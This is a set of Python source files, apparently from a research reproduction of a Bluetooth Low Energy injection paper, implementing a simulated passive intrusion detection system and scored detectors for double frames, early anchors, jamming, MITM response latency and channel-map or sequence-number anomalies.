            index = 0 if new_event else state[1] + 1
            known = True
        self._event_state[aa] = (frame.end_us, index)
        return FrameView(frame=frame, is_advertising=False,
                         new_event=new_event, index_in_event=index,
                         gap_us=gap, overlaps=tuple(self._active),
                         known_connection=known)

    def _record(self, verdict: Verdict) -> None:
        self.verdicts.append(verdict)
        if self._metrics.enabled:
            self._m_verdicts[verdict.detector].inc()
            if verdict.score >= ALERT_SCORE:
                self._m_alerts[verdict.detector].inc()
        if verdict.score >= ALERT_SCORE and self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, "defense",
                                  f"defense-{verdict.kind}",
                                  detector=verdict.detector,
                                  aa=verdict.access_address,
                                  score=round(verdict.score, 6))
        if self.on_verdict is not None:
            self.on_verdict(verdict)

    # ------------------------------------------------------------------
    # Queries
    # ------------------------------------------------------------------

    def verdicts_of(self, detector: str) -> List[Verdict]:
        """The verdict stream of one detector, in emission order."""
        return [v for v in self.verdicts if v.detector == detector]

    def alerts_of(self, detector: str) -> List[Verdict]:
        """One detector's verdicts at or above :data:`ALERT_SCORE`."""
        return [v for v in self.verdicts_of(detector)
                if v.score >= ALERT_SCORE]

    def summaries(self, attack_start_us: Optional[float] = None
                  ) -> Dict[str, dict]:
        """Fold the verdict streams into per-detector summary dicts.

        Args:
            attack_start_us: when the attack began (simulated µs); fills
                each summary's ``latency_us`` (first alert minus start).

        Returns:
            detector name → ``{"verdicts", "alerts", "max_score",
            "first_alert_us", "latency_us", "stream_sha256"}``, in bank
            order.  All values are plain JSON-serialisable scalars so
            the campaign journal can carry them verbatim.
        """
        out: Dict[str, dict] = {}
        for detector in self.detectors:
            stream = self.verdicts_of(detector.name)
            alerts = [v for v in stream if v.score >= ALERT_SCORE]
            first_alert = alerts[0].time_us if alerts else None
            latency = (first_alert - attack_start_us
                       if first_alert is not None
                       and attack_start_us is not None else None)
            out[detector.name] = {
                "verdicts": len(stream),
                "alerts": len(alerts),
                "max_score": max((v.score for v in stream), default=0.0),
                "first_alert_us": first_alert,
                "latency_us": latency,
                "stream_sha256": verdict_stream_digest(stream),
            }
        return out
