"""A passive Link-Layer intrusion detection system (paper §VIII).

The paper argues an IDS monitoring the radio activity "could be able to
detect, at the right instant, the presence of double frames: the
legitimate Master frame and the attacker one".  This module keeps that
original boolean-alert interface as a thin wrapper over the pluggable
detector framework (:mod:`repro.defense.api` /
:mod:`repro.defense.bank`): a :class:`LinkLayerIds` is a
:class:`~repro.defense.bank.DetectorBank` loaded with the three classic
§VIII detectors, folding their scored verdict streams back into
:class:`IdsAlert`s:

* **double-frame**: two frames carrying the *same* connection access
  address overlapping in time on the same channel — the InjectaBLE
  collision signature (Fig. 5, situation b);
* **anchor-anomaly**: a frame with a known AA arriving early by more than
  the plausible drift since the previous anchor — the signature of
  injections that win the race without colliding (situation a);
* **jamming**: repeated unknown-AA frames overlapping a known connection's
  frames — BTLEJack's signature.

New code should use the bank and registry directly; this wrapper exists
so monitoring worlds built before the framework keep working unchanged.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import List

from repro.defense.api import ALERT_SCORE, FrameView, Verdict
from repro.defense.bank import DetectorBank
from repro.defense.detectors import (
    AnchorAnomalyDetector,
    DoubleFrameDetector,
    JammingDetector,
)
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator


@dataclass(frozen=True)
class IdsAlert:
    """One IDS detection.

    Attributes:
        time_us: detection time.
        kind: ``"double-frame"``, ``"anchor-anomaly"`` or ``"jamming"``.
        access_address: connection the alert concerns (0 when unknown).
        detail: free-form human-readable context.
    """

    time_us: float
    kind: str
    access_address: int
    detail: str = ""


class LinkLayerIds:
    """Wideband monitor detecting injection and jamming signatures.

    Args:
        sim: owning simulator.
        medium: the medium to tap.
        drift_budget_ppm: clock-drift allowance when judging anchor
            anomalies (Master + Slave SCA budget).
        anchor_slack_us: constant slack added to the drift allowance.
    """

    def __init__(self, sim: Simulator, medium: Medium,
                 drift_budget_ppm: float = 100.0,
                 anchor_slack_us: float = 40.0):
        self.sim = sim
        self.drift_budget_ppm = drift_budget_ppm
        self.anchor_slack_us = anchor_slack_us
        self.alerts: List[IdsAlert] = []
        metrics = sim.metrics
        self._metrics = metrics
        self._m_frames = metrics.counter("ids.frames_seen")
        self._m_alerts = {
            kind: metrics.counter(f"ids.alerts.{kind}")
            for kind in ("double-frame", "anchor-anomaly", "jamming")
        }
        #: Slave response latency after the event-opening frame — the
        #: BLEKeeper-style response-*time* telemetry MITM relays distort.
        self._m_response_delay = metrics.histogram(
            "ids.response_delay_us",
            buckets=(100.0, 150.0, 200.0, 300.0, 500.0, 1_000.0, 2_000.0))
        self.bank = DetectorBank(sim, medium, detectors=(
            DoubleFrameDetector(),
            AnchorAnomalyDetector(drift_budget_ppm=drift_budget_ppm,
                                  anchor_slack_us=anchor_slack_us),
            JammingDetector(),
        ))
        self.bank.on_verdict = self._on_verdict
        self.bank.on_view = self._on_view

    # ------------------------------------------------------------------
    # Bank subscriptions
    # ------------------------------------------------------------------

    def _on_view(self, view: FrameView) -> None:
        if view.is_advertising:
            return
        if self._metrics.enabled:
            self._m_frames.inc()
            if view.index_in_event == 1 and view.gap_us is not None:
                self._m_response_delay.observe(view.gap_us)

    def _on_verdict(self, verdict: Verdict) -> None:
        if verdict.score < ALERT_SCORE:
            return
        alert = IdsAlert(verdict.time_us, verdict.kind,
                         verdict.access_address, verdict.detail)
        self.alerts.append(alert)
        if self._metrics.enabled:
            counter = self._m_alerts.get(verdict.kind)
            if counter is None:
                counter = self._m_alerts[verdict.kind] = \
                    self._metrics.counter(f"ids.alerts.{verdict.kind}")
            counter.inc()
        if self.sim.trace.enabled:
            self.sim.trace.record(self.sim.now, "ids",
                                  f"ids-{verdict.kind}",
                                  aa=verdict.access_address,
                                  detail=verdict.detail)

    # ------------------------------------------------------------------
    # Queries
    # ------------------------------------------------------------------

    def alerts_of_kind(self, kind: str) -> List[IdsAlert]:
        """All alerts of one kind."""
        return [a for a in self.alerts if a.kind == kind]

    def detected_injection(self) -> bool:
        """Whether any injection signature fired."""
        return bool(self.alerts_of_kind("double-frame")
                    or self.alerts_of_kind("anchor-anomaly"))

    def detected_jamming(self) -> bool:
        """Whether the jamming signature fired."""
        return bool(self.alerts_of_kind("jamming"))
