"""A passive Link-Layer intrusion detection system (paper §VIII).

The paper argues an IDS monitoring the radio activity "could be able to
detect, at the right instant, the presence of double frames: the
legitimate Master frame and the attacker one".  This module implements
that detector over a wideband medium tap (the simulated equivalent of an
SDR monitor à la RadIoT [18]):

* **double-frame**: two frames carrying the *same* connection access
  address overlapping in time on the same channel — the InjectaBLE
  collision signature (Fig. 5, situation b);
* **anchor-anomaly**: a frame with a known AA arriving early by more than
  the plausible drift since the previous anchor — the signature of
  injections that win the race without colliding (situation a);
* **jamming**: repeated unknown-AA frames overlapping a known connection's
  frames — BTLEJack's signature.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional

from repro.ll.access_address import ADVERTISING_ACCESS_ADDRESS
from repro.ll.timing import window_widening_us
from repro.phy.signal import RadioFrame
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.utils.units import SLOT_US

#: Frames closer together than this on one channel belong to one event.
_EVENT_GAP_US = 2_000.0


@dataclass(frozen=True)
class IdsAlert:
    """One IDS detection.

    Attributes:
        time_us: detection time.
        kind: ``"double-frame"``, ``"anchor-anomaly"`` or ``"jamming"``.
        access_address: connection the alert concerns (0 when unknown).
        detail: free-form human-readable context.
    """

    time_us: float
    kind: str
    access_address: int
    detail: str = ""


@dataclass
class _ConnectionModel:
    """Per-AA timing model the IDS learns online."""

    last_frame_end_us: float = 0.0
    last_anchor_us: Optional[float] = None
    interval_estimate_us: Optional[float] = None
    frames_in_event: int = 0
    event_frames: list = field(default_factory=list)
    #: Anchors left to skip while a legitimate re-timing procedure (an
    #: observed LL_CONNECTION_UPDATE_IND) settles; the interval is
    #: re-learned afterwards.
    suppress_anchors: int = 0


class LinkLayerIds:
    """Wideband monitor detecting injection and jamming signatures.

    Args:
        sim: owning simulator.
        medium: the medium to tap.
        drift_budget_ppm: clock-drift allowance when judging anchor
            anomalies (Master + Slave SCA budget).
        anchor_slack_us: constant slack added to the drift allowance.
    """

    def __init__(self, sim: Simulator, medium: Medium,
                 drift_budget_ppm: float = 100.0,
                 anchor_slack_us: float = 40.0):
        self.sim = sim
        self.drift_budget_ppm = drift_budget_ppm
        self.anchor_slack_us = anchor_slack_us
        self.alerts: list[IdsAlert] = []
        self._models: dict[int, _ConnectionModel] = {}
        self._active: list[RadioFrame] = []
        metrics = sim.metrics
        self._metrics = metrics
        self._m_frames = metrics.counter("ids.frames_seen")
        self._m_alerts = {
            kind: metrics.counter(f"ids.alerts.{kind}")
            for kind in ("double-frame", "anchor-anomaly", "jamming")
        }
        #: Slave response latency after the event-opening frame — the
        #: BLEKeeper-style response-*time* telemetry MITM relays distort.
        self._m_response_delay = metrics.histogram(
            "ids.response_delay_us",
            buckets=(100.0, 150.0, 200.0, 300.0, 500.0, 1_000.0, 2_000.0))
        medium.add_tap(self._on_frame_start)

    # ------------------------------------------------------------------
    # Tap
    # ------------------------------------------------------------------

    def _on_frame_start(self, frame: RadioFrame) -> None:
        self._active = [f for f in self._active if f.end_us > frame.start_us]
        if frame.access_address != ADVERTISING_ACCESS_ADDRESS:
            if self._metrics.enabled:
                self._m_frames.inc()
            self._check_overlaps(frame)
            self._update_model(frame)
        self._active.append(frame)

    def _check_overlaps(self, frame: RadioFrame) -> None:
        for other in self._active:
            if other.channel != frame.channel:
                continue
            if other.end_us <= frame.start_us:
                continue
            if other.access_address == frame.access_address:
                self._alert("double-frame", frame.access_address,
                            f"two AA={frame.access_address:#010x} frames "
                            f"overlap on channel {frame.channel}")
            elif other.access_address == ADVERTISING_ACCESS_ADDRESS:
                continue
            else:
                # Two *different* data access addresses colliding: distinct
                # connections land on the same channel extremely rarely, so
                # repeated cross-AA collisions are a jamming signature.
                victim = (frame.access_address
                          if frame.access_address in self._models
                          else other.access_address)
                self._alert("jamming", victim,
                            f"cross-AA collision with AA={victim:#010x} "
                            f"on channel {frame.channel}")

    def _update_model(self, frame: RadioFrame) -> None:
        model = self._models.setdefault(frame.access_address,
                                        _ConnectionModel())
        is_new_event = (frame.start_us - model.last_frame_end_us
                        > _EVENT_GAP_US)
        if is_new_event:
            self._check_anchor(frame, model)
            model.last_anchor_us = frame.start_us
            model.frames_in_event = 1
            self._scan_for_procedures(frame, model)
        else:
            model.frames_in_event += 1
            if model.frames_in_event == 2 and self._metrics.enabled:
                self._m_response_delay.observe(
                    frame.start_us - model.last_frame_end_us)
        model.last_frame_end_us = frame.end_us

    def _scan_for_procedures(self, frame: RadioFrame,
                             model: _ConnectionModel) -> None:
        """Parse unencrypted LL control traffic for re-timing procedures.

        An SDR monitor can decode plaintext control PDUs; a visible
        LL_CONNECTION_UPDATE_IND or LL_CHANNEL_MAP_IND legitimately breaks
        the timing model, so the IDS suppresses anchor checks while the
        procedure settles and re-learns the interval.  (Encrypted control
        traffic is opaque — a documented limitation shared with real
        monitors.)
        """
        try:
            from repro.ll.pdu.data import LLID, DataPdu

            pdu = DataPdu.from_bytes(frame.pdu)
        except Exception:
            return
        if pdu.header.llid is not LLID.CONTROL or not pdu.payload:
            return
        opcode = pdu.payload[0]
        if opcode in (0x00, 0x01):  # connection update / channel map
            model.suppress_anchors = 80
            model.interval_estimate_us = None

    def _check_anchor(self, frame: RadioFrame,
                      model: _ConnectionModel) -> None:
        if model.last_anchor_us is None:
            return
        if model.suppress_anchors > 0:
            model.suppress_anchors -= 1
            return
        delta = frame.start_us - model.last_anchor_us
        if model.interval_estimate_us is None:
            # Learn the interval from the first inter-anchor gap, snapped
            # to the 1.25 ms grid.
            slots = max(6.0, round(delta / SLOT_US))
            model.interval_estimate_us = slots * SLOT_US
            return
        interval = model.interval_estimate_us
        events = max(1, round(delta / interval))
        expected = events * interval
        allowance = (window_widening_us(self.drift_budget_ppm, 0.0,
                                        expected)
                     + self.anchor_slack_us)
        early_by = expected - delta
        if early_by > allowance:
            self._alert("anchor-anomaly", frame.access_address,
                        f"anchor {early_by:.1f} µs early "
                        f"(allowance {allowance:.1f} µs)")
        # Track slow drift by updating the reference interval estimate.
        if abs(delta - expected) < allowance and events == 1:
            model.interval_estimate_us = 0.9 * interval + 0.1 * delta

    def _alert(self, kind: str, access_address: int, detail: str) -> None:
        alert = IdsAlert(self.sim.now, kind, access_address, detail)
        self.alerts.append(alert)
        if self._metrics.enabled:
            counter = self._m_alerts.get(kind)
            if counter is None:
                counter = self._m_alerts[kind] = \
                    self._metrics.counter(f"ids.alerts.{kind}")
            counter.inc()
        self.sim.trace.record(self.sim.now, "ids", f"ids-{kind}",
                              aa=access_address, detail=detail)

    # ------------------------------------------------------------------
    # Queries
    # ------------------------------------------------------------------

    def alerts_of_kind(self, kind: str) -> list[IdsAlert]:
        """All alerts of one kind."""
        return [a for a in self.alerts if a.kind == kind]

    def detected_injection(self) -> bool:
        """Whether any injection signature fired."""
        return bool(self.alerts_of_kind("double-frame")
                    or self.alerts_of_kind("anchor-anomaly"))

    def detected_jamming(self) -> bool:
        """Whether the jamming signature fired."""
        return bool(self.alerts_of_kind("jamming"))
