"""The built-in detectors of the defense bench.

Three are the paper's §VIII monitor signatures (double frames, anchor
anomalies, jamming), ported from the original single-file IDS onto the
scored-verdict protocol; two are new:

* **response-time** — BLEKeeper's MITM signal: a per-connection model of
  the ATT request→response round-trip, scored with a CUSUM of the excess
  over a budget derived from the learned connection interval.  A relayed
  connection (scenario D) answers one-to-two connection events late; a
  direct peer answers within the same event.
* **hop-conformance** — protocol-conformance checks a wideband monitor
  can make for free: data frames on channels outside the connection's
  advertised channel map, and same-SN retransmissions whose content
  changed (real retransmissions repeat the PDU verbatim; an injected
  frame forging the expected SN does not).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Dict, List, Optional, Tuple

from repro.defense.api import (
    Detector,
    DetectorDef,
    FrameView,
    Verdict,
    register_detector,
)
from repro.host.att.opcodes import AttOpcode
from repro.host.l2cap import CID_ATT
from repro.ll.access_address import ADVERTISING_ACCESS_ADDRESS
from repro.ll.pdu.advertising import ConnectReq, decode_advertising_pdu
from repro.ll.pdu.data import LLID, DataPdu
from repro.ll.timing import window_widening_us
from repro.utils.bits import bytes_to_int_le
from repro.utils.units import SLOT_US

#: ATT request opcode → its success-response opcode (requests that get a
#: response at all; commands and notifications are fire-and-forget).
ATT_REQUEST_RESPONSE: Dict[int, int] = {
    int(AttOpcode.EXCHANGE_MTU_REQ): int(AttOpcode.EXCHANGE_MTU_RSP),
    int(AttOpcode.FIND_INFORMATION_REQ): int(AttOpcode.FIND_INFORMATION_RSP),
    int(AttOpcode.READ_BY_TYPE_REQ): int(AttOpcode.READ_BY_TYPE_RSP),
    int(AttOpcode.READ_REQ): int(AttOpcode.READ_RSP),
    int(AttOpcode.READ_BY_GROUP_TYPE_REQ):
        int(AttOpcode.READ_BY_GROUP_TYPE_RSP),
    int(AttOpcode.WRITE_REQ): int(AttOpcode.WRITE_RSP),
}

#: Response-time budget as a multiple of the learned connection interval:
#: a direct peer answers within the event it was asked in (far under one
#: interval); a MITM relay needs at least a full round on the second
#: connection, i.e. two intervals or more.
RTT_BUDGET_INTERVALS = 1.5


def _att_opcode(pdu: bytes) -> Optional[int]:
    """The ATT opcode of a data PDU, or ``None`` for non-ATT traffic.

    Parses the unencrypted L2CAP framing the way a wideband monitor
    would: 2-byte length, 2-byte CID, then the ATT opcode.  Fragments
    and encrypted payloads simply fail the checks and return ``None``.
    """
    try:
        decoded = DataPdu.from_bytes(pdu)
    except Exception:
        return None
    if decoded.header.llid is not LLID.DATA_START:
        return None
    payload = decoded.payload
    if len(payload) < 5:
        return None
    cid = bytes_to_int_le(payload[2:4])
    if cid != CID_ATT:
        return None
    return payload[4]


class DoubleFrameDetector(Detector):
    """The paper's core signature: two same-AA frames overlapping on air.

    A legitimate connection never has two simultaneous transmissions
    under one access address on one channel; the InjectaBLE race
    produces exactly that (Fig. 5, situation b), so every occurrence
    scores a full alert.
    """

    name = "double-frame"

    def on_frame(self, view: FrameView) -> List[Verdict]:
        if view.is_advertising:
            return []
        frame = view.frame
        verdicts = []
        for other in view.overlaps:
            if (other.channel == frame.channel
                    and other.access_address == frame.access_address):
                verdicts.append(self._verdict(
                    view, 1.0, "double-frame",
                    f"two AA={frame.access_address:#010x} frames overlap "
                    f"on channel {frame.channel}"))
        return verdicts


class JammingDetector(Detector):
    """Cross-AA collisions against a known connection (BTLEJack signature).

    Distinct connections land on the same channel extremely rarely, so
    repeated data-AA collisions mean someone is transmitting over the
    victim's frames.  Each collision is a full-score verdict; ambient
    worlds measure how often dense legitimate traffic trips it.
    """

    name = "jamming"

    def on_frame(self, view: FrameView) -> List[Verdict]:
        if view.is_advertising:
            return []
        frame = view.frame
        verdicts = []
        for other in view.overlaps:
            if other.channel != frame.channel:
                continue
            if other.access_address == frame.access_address:
                continue  # the double-frame detector's case
            if other.access_address == ADVERTISING_ACCESS_ADDRESS:
                continue
            victim = (frame.access_address if view.known_connection
                      else other.access_address)
            verdicts.append(self._verdict(
                view, 1.0, "jamming",
                f"cross-AA collision with AA={victim:#010x} "
                f"on channel {frame.channel}", access_address=victim))
        return verdicts


@dataclass
class _AnchorModel:
    """Per-AA anchor-timing state the anchor detector learns online."""

    last_anchor_us: Optional[float] = None
    interval_estimate_us: Optional[float] = None
    #: Anchors left to skip while an observed re-timing procedure (an
    #: LL_CONNECTION_UPDATE_IND / LL_CHANNEL_MAP_IND) settles.
    suppress_anchors: int = 0


class AnchorAnomalyDetector(Detector):
    """Frames arriving earlier than clock drift allows (situation a).

    Learns each connection's interval from inter-anchor gaps, allows for
    the drift-budget window widening plus constant slack, and scores an
    early anchor by how far it beats the allowance (``score = early /
    allowance``, so 1.0 is exactly the alert boundary).

    Args:
        drift_budget_ppm: combined Master+Slave SCA budget.
        anchor_slack_us: constant slack added to the drift allowance.
    """

    name = "anchor-anomaly"

    def __init__(self, drift_budget_ppm: float = 100.0,
                 anchor_slack_us: float = 40.0):
        self.drift_budget_ppm = drift_budget_ppm
        self.anchor_slack_us = anchor_slack_us
        self._models: Dict[int, _AnchorModel] = {}

    def on_frame(self, view: FrameView) -> List[Verdict]:
        if view.is_advertising or not view.new_event:
            return []
        frame = view.frame
        model = self._models.setdefault(frame.access_address, _AnchorModel())
        verdicts = self._check_anchor(view, model)
        model.last_anchor_us = frame.start_us
        self._scan_for_procedures(frame.pdu, model)
        return verdicts

    def _check_anchor(self, view: FrameView,
                      model: _AnchorModel) -> List[Verdict]:
        if model.last_anchor_us is None:
            return []
        if model.suppress_anchors > 0:
            model.suppress_anchors -= 1
            return []
        delta = view.frame.start_us - model.last_anchor_us
        if model.interval_estimate_us is None:
            # Learn the interval from the first inter-anchor gap, snapped
            # to the 1.25 ms grid.
            slots = max(6.0, round(delta / SLOT_US))
            model.interval_estimate_us = slots * SLOT_US
            return []
        interval = model.interval_estimate_us
        events = max(1, round(delta / interval))
        expected = events * interval
        allowance = (window_widening_us(self.drift_budget_ppm, 0.0, expected)
                     + self.anchor_slack_us)
        early_by = expected - delta
        verdicts = []
        if early_by > allowance:
            verdicts.append(self._verdict(
                view, early_by / allowance, "anchor-anomaly",
                f"anchor {early_by:.1f} µs early "
                f"(allowance {allowance:.1f} µs)"))
        # Track slow drift by updating the reference interval estimate.
        if abs(delta - expected) < allowance and events == 1:
            model.interval_estimate_us = 0.9 * interval + 0.1 * delta
        return verdicts

    def _scan_for_procedures(self, pdu: bytes, model: _AnchorModel) -> None:
        """Suppress anchor checks while a visible re-timing procedure
        (plaintext LL_CONNECTION_UPDATE_IND / LL_CHANNEL_MAP_IND) settles;
        the interval is re-learned afterwards.  Encrypted control traffic
        is opaque — a documented limitation shared with real monitors."""
        try:
            decoded = DataPdu.from_bytes(pdu)
        except Exception:
            return
        if decoded.header.llid is not LLID.CONTROL or not decoded.payload:
            return
        opcode = decoded.payload[0]
        if opcode in (0x00, 0x01):  # connection update / channel map
            model.suppress_anchors = 80
            model.interval_estimate_us = None


@dataclass
class _RttModel:
    """Per-AA request/response state of the response-time detector."""

    last_anchor_us: Optional[float] = None
    interval_estimate_us: Optional[float] = None
    #: Outstanding ATT request: (expected response opcode, send time).
    outstanding: Optional[Tuple[int, float]] = None
    #: CUSUM of response-time excess over the budget, µs.
    cusum_us: float = 0.0


class ResponseTimeDetector(Detector):
    """BLEKeeper-style MITM detection from request→response latency.

    Pairs each plaintext ATT request with its response on the same
    connection and scores the round-trip against a budget of
    ``rtt_budget_intervals`` learned connection intervals.  A direct
    peer answers T_IFS after being polled — far inside one interval; a
    MITM relay must forward the request over its second connection and
    relay the answer back, adding one-to-two intervals of latency
    (exactly the BLEKeeper observation PAPERS.md describes).

    Every paired response emits a verdict (``score = max(rtt, cusum) /
    budget``), so benign traffic produces a low-scoring stream the ROC
    analysis uses for the false-positive axis, and sustained relay
    latency escalates through the CUSUM term.

    Args:
        rtt_budget_intervals: budget as a multiple of the learned
            connection interval.
    """

    name = "response-time"

    def __init__(self,
                 rtt_budget_intervals: float = RTT_BUDGET_INTERVALS):
        self.rtt_budget_intervals = rtt_budget_intervals
        self._models: Dict[int, _RttModel] = {}

    def on_frame(self, view: FrameView) -> List[Verdict]:
        if view.is_advertising:
            return []
        frame = view.frame
        model = self._models.setdefault(frame.access_address, _RttModel())
        if view.new_event:
            self._learn_interval(frame.start_us, model)
        opcode = _att_opcode(frame.pdu)
        if opcode is None:
            return []
        expected = ATT_REQUEST_RESPONSE.get(opcode)
        if expected is not None:
            # A copy of the in-flight request (a link-layer retransmission,
            # or a MITM relay re-emitting it on the far half of a forked
            # connection) must not rewind the clock: the requester has
            # been waiting since the first copy.
            if model.outstanding is None or model.outstanding[0] != expected:
                model.outstanding = (expected, frame.start_us)
            return []
        return self._match_response(view, model, opcode)

    def _learn_interval(self, anchor_us: float, model: _RttModel) -> None:
        if model.last_anchor_us is not None:
            delta = anchor_us - model.last_anchor_us
            if model.interval_estimate_us is None:
                slots = max(6.0, round(delta / SLOT_US))
                model.interval_estimate_us = slots * SLOT_US
            elif round(delta / model.interval_estimate_us) == 1:
                model.interval_estimate_us = \
                    0.9 * model.interval_estimate_us + 0.1 * delta
        model.last_anchor_us = anchor_us

    def _match_response(self, view: FrameView, model: _RttModel,
                        opcode: int) -> List[Verdict]:
        if model.outstanding is None:
            return []
        expected, sent_us = model.outstanding
        if opcode != expected and opcode != int(AttOpcode.ERROR_RSP):
            return []
        model.outstanding = None
        if model.interval_estimate_us is None:
            return []  # no timing model yet; nothing to judge against
        rtt = view.frame.start_us - sent_us
        budget = self.rtt_budget_intervals * model.interval_estimate_us
        model.cusum_us = max(0.0, model.cusum_us + (rtt - budget))
        score = max(rtt, model.cusum_us) / budget
        return [self._verdict(
            view, score, "slow-response",
            f"ATT rtt {rtt:.0f} µs (budget {budget:.0f} µs, "
            f"cusum {model.cusum_us:.0f} µs)")]


@dataclass
class _HopModel:
    """Per-AA conformance state of the hop-conformance detector."""

    channel_map: int = 0
    #: (direction slot → (SN bit, LLID, payload)) of the last data PDU.
    last_pdu: Dict[int, Tuple[int, int, bytes]] = field(default_factory=dict)


class HopConformanceDetector(Detector):
    """Channel-map conformance and SN-consistency checks.

    Learns each connection's 37-bit channel map from its CONNECT_REQ
    (and visible LL_CHANNEL_MAP_IND updates) and flags data frames on
    channels the map forbids — a hopping-sequence violation no
    spec-conforming device produces.  Independently, it tracks the 1-bit
    ARQ per direction: a frame repeating the previous SN must be a
    verbatim retransmission, so same-SN frames whose content changed
    reveal an injected PDU forged with the sequence number the victim
    expects.
    """

    name = "hop-conformance"

    def __init__(self) -> None:
        self._models: Dict[int, _HopModel] = {}

    def on_frame(self, view: FrameView) -> List[Verdict]:
        frame = view.frame
        if view.is_advertising:
            self._learn_connect_req(frame.pdu)
            return []
        model = self._models.get(frame.access_address)
        if model is None:
            model = self._models[frame.access_address] = _HopModel()
        verdicts = []
        if model.channel_map and not (model.channel_map >> frame.channel) & 1:
            verdicts.append(self._verdict(
                view, 1.0, "bad-channel",
                f"data frame on channel {frame.channel}, outside the "
                f"connection's channel map {model.channel_map:#011x}"))
        verdicts.extend(self._check_sequence(view, model))
        self._track_map_update(frame.pdu, model)
        return verdicts

    def _learn_connect_req(self, pdu: bytes) -> None:
        try:
            decoded = decode_advertising_pdu(pdu)
        except Exception:
            return
        if isinstance(decoded, ConnectReq):
            model = self._models.setdefault(
                decoded.ll_data.access_address, _HopModel())
            model.channel_map = decoded.ll_data.channel_map
            model.last_pdu.clear()

    def _track_map_update(self, pdu: bytes, model: _HopModel) -> None:
        """Follow visible LL_CHANNEL_MAP_IND updates so a legitimate map
        change does not turn into a stream of bad-channel verdicts."""
        try:
            decoded = DataPdu.from_bytes(pdu)
        except Exception:
            return
        if decoded.header.llid is not LLID.CONTROL:
            return
        payload = decoded.payload
        if len(payload) >= 6 and payload[0] == 0x01:  # LL_CHANNEL_MAP_IND
            model.channel_map = bytes_to_int_le(payload[1:6])

    def _check_sequence(self, view: FrameView,
                        model: _HopModel) -> List[Verdict]:
        try:
            decoded = DataPdu.from_bytes(view.frame.pdu)
        except Exception:
            return []
        header = decoded.header
        # Even in-event indices are Master transmissions, odd are Slave;
        # each direction runs its own SN stream.
        slot = view.index_in_event % 2
        previous = model.last_pdu.get(slot)
        model.last_pdu[slot] = (header.sn, int(header.llid), decoded.payload)
        if previous is None:
            return []
        prev_sn, prev_llid, prev_payload = previous
        if header.sn != prev_sn:
            return []
        if (int(header.llid), decoded.payload) == (prev_llid, prev_payload):
            return []  # verbatim retransmission: spec behaviour
        return [self._verdict(
            view, 1.0, "sn-reuse",
            f"SN={header.sn} reused with different content "
            f"({len(decoded.payload)} vs {len(prev_payload)} payload bytes)")]


def _register_builtins() -> None:
    """Register the built-in detectors (import side effect of the package)."""
    register_detector(DetectorDef(
        "double-frame", DoubleFrameDetector,
        "same-AA frames overlapping on air (InjectaBLE collision, §VIII)"))
    register_detector(DetectorDef(
        "anchor-anomaly", AnchorAnomalyDetector,
        "frames earlier than the drift allowance permits (§VIII)"))
    register_detector(DetectorDef(
        "jamming", JammingDetector,
        "cross-AA collisions against a known connection (BTLEJack)"))
    register_detector(DetectorDef(
        "response-time", ResponseTimeDetector,
        "ATT request→response latency model with CUSUM (BLEKeeper)"))
    register_detector(DetectorDef(
        "hop-conformance", HopConformanceDetector,
        "channel-map conformance + SN-reuse-with-changed-content checks"))


_register_builtins()
