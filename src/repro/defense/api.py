"""Detector framework core: verdicts, the detector protocol, the registry.

The single-file IDS of early revisions grew into a pluggable framework
(ROADMAP item 4): a *detector* consumes the medium-tap frame stream —
pre-digested into :class:`FrameView`s by the
:class:`~repro.defense.bank.DetectorBank` — and emits a stream of
*scored* :class:`Verdict`s rather than boolean alerts.  Scores make the
defense bench possible: ROC/AUC curves sweep the score threshold, while
the operational alert threshold stays fixed at :data:`ALERT_SCORE`.

Detectors register by name in :data:`DETECTORS` (mirroring
:mod:`repro.campaign.registry`), so experiment grids, campaign specs and
the CLI can select them declaratively.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable, Dict, List, Optional, Sequence, Tuple

from repro.errors import ConfigurationError
from repro.phy.signal import RadioFrame

#: A verdict at or above this score is an operational *alert*; lower
#: scores are graded evidence the ROC analysis sweeps over.
ALERT_SCORE = 1.0

#: name → detector definition, in registration order.
DETECTORS: Dict[str, "DetectorDef"] = {}


@dataclass(frozen=True)
class Verdict:
    """One scored detection emitted by a detector.

    Attributes:
        time_us: simulator time of the observation.
        detector: registry name of the emitting detector.
        score: anomaly score; ``>= ALERT_SCORE`` means alert.
        kind: signature label (e.g. ``"double-frame"``, ``"slow-response"``).
        access_address: connection concerned (0 when unknown).
        detail: free-form human-readable context.
    """

    time_us: float
    detector: str
    score: float
    kind: str
    access_address: int
    detail: str = ""


@dataclass(frozen=True)
class FrameView:
    """One medium-tap frame, pre-digested with shared per-connection state.

    The bank computes the event bookkeeping every detector would
    otherwise duplicate (gap-based connection-event segmentation, the
    same heuristic a real wideband monitor uses).

    Attributes:
        frame: the raw PHY frame.
        is_advertising: carried the advertising access address.
        new_event: first frame of a connection event on this AA (always
            ``True`` for advertising frames).
        index_in_event: 0-based position within the connection event;
            even indices are Master transmissions, odd ones Slave
            (events strictly alternate at T_IFS).
        gap_us: time since the previous frame ended on this AA
            (``None`` for the first frame ever seen on the AA).
        overlaps: earlier-started frames still on air at this frame's
            start (any channel; detectors filter).
        known_connection: this AA had data traffic before this frame.
    """

    frame: RadioFrame
    is_advertising: bool
    new_event: bool
    index_in_event: int
    gap_us: Optional[float]
    overlaps: Tuple[RadioFrame, ...]
    known_connection: bool


class Detector:
    """Base class of the pluggable detectors.

    Subclasses set :attr:`name` (the registry key) and implement
    :meth:`on_frame`, returning zero or more :class:`Verdict`s per
    observed frame.  Detectors hold per-connection state themselves; the
    shared, duplicated-by-everyone bookkeeping lives in
    :class:`FrameView`.
    """

    #: Registry name; subclasses override.
    name = "detector"

    def on_frame(self, view: FrameView) -> List[Verdict]:
        """Consume one frame view; return the verdicts it triggers."""
        raise NotImplementedError

    def _verdict(self, view: FrameView, score: float, kind: str,
                 detail: str = "",
                 access_address: Optional[int] = None) -> Verdict:
        """Build a verdict stamped with this detector's name."""
        aa = (view.frame.access_address if access_address is None
              else access_address)
        return Verdict(time_us=view.frame.start_us, detector=self.name,
                       score=score, kind=kind, access_address=aa,
                       detail=detail)


@dataclass(frozen=True)
class DetectorDef:
    """A registered detector factory.

    Attributes:
        name: registry key (also the ``Verdict.detector`` stamp).
        factory: zero-argument callable building a fresh detector
            instance (per-world state must not be shared across trials).
